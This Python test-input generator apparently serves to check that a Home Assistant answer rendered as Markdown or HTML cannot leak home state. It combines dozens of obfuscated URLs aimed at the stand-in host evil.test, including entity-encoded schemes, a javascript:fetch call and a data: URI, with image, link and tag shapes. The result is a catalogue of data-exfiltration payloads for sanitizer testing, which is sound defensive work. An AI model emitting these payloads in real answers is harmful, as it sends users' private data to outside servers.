"""Ways in which the address of an answer could tell a stranger of the home, as Markdown and HTML write them."""

from collections.abc import Iterator
from random import Random

TELLS = "evil.test/?state=locked"

ADDRESSES = (
    f"http://{TELLS}",
    f"https://{TELLS}",
    f"HTTPS://{TELLS}",
    f"//{TELLS}",
    f"/\\{TELLS}",
    f"\\/\\/{TELLS}",
    f"https:{TELLS}",
    f"https:\\/\\/{TELLS}",
    f"&#104;ttps://{TELLS}",
    f"https&colon;//{TELLS}",
    f"http://user@{TELLS}",
    f"https://https://{TELLS}",
    f"ftp://{TELLS}",
    f"www.{TELLS}",
    f"data:text/html,<img src=https://{TELLS}>",
    f"javascript:fetch('https://{TELLS}')",
)
SEEMINGLY_OWN = tuple(
    f"/{mark}{TELLS}" for mark in ("&sol;", "&bsol;", "&Tab;/", "&NewLine;/", "&Tab;&sol;", "&#47;", "&#x2f;")
)
"""Addresses that begin as those of Home Assistant itself do, until a browser has read what is written in them."""
SHAPES = (
    "![]({})",
    "![the door]({})",
    '![the door]({} "title")',
    "![the door](<{}>)",
    "![the door]( {} )",
    "![the\ndoor]({})",
    "![the door][door]\n\n[door]: {}",
    "![door]\n\n[door]: {}",
    "![door][]\n\n> [door]: <{}> 'title'",
    "[door]:\n{}\n\n![door]",
    "[the door]({})",
    "[![the door]({})](/config)",
    "[![the door](/local/a.png)]({})",
    "[<img src={}>](/config)",
    "[a [b]({})]({})",
    "![a ![b]({})]({})",
    "![a\\]]({})",
    "!\\[a]({})",
    "[a](/config)![]({})",
    "<{}>",
    "{}",
    "see {}.",
    "({})",
    "**{}**",
    "<img src={}>",
    "<IMG SRC='{}'>",
    '<img\nsrc="{}"/>',
    "<<img src={}>",
    "<a href='{}'>door</a>",
    "<video poster={}></video>",
    "<audio src={} autoplay>",
    "<table background={}>",
    "<p style='background:url({})'>",
    "<svg><image href={} /></svg>",
    "<!-- --><img src={}>",
    "| a |\n|---|\n| ![]({}) |",
    "- ![]({})",
    "# ![]({})",
    "```\n```\n![]({})",
)


def answers(seed: int = 0, count: int = 300) -> Iterator[str]:
    """Yield every shape with every address, and then mixtures of them."""
    for shape in SHAPES:
        for address in ADDRESSES:
            yield shape.replace("{}", address)
        if "]({})" in shape:
            yield from (shape.replace("{}", address) for address in SEEMINGLY_OWN)
    random = Random(seed)
    for _ in range(count):
        words = [
            random.choice(("The door", "is", "\n", "[", "]", "(", ")", "!", "<", "https:", "//", "www", "."))
            for _ in range(4)
        ]
        parts = [random.choice(SHAPES).replace("{}", random.choice(ADDRESSES)) for _ in range(2)]
        yield "".join(random.sample([*words, *parts], 6))
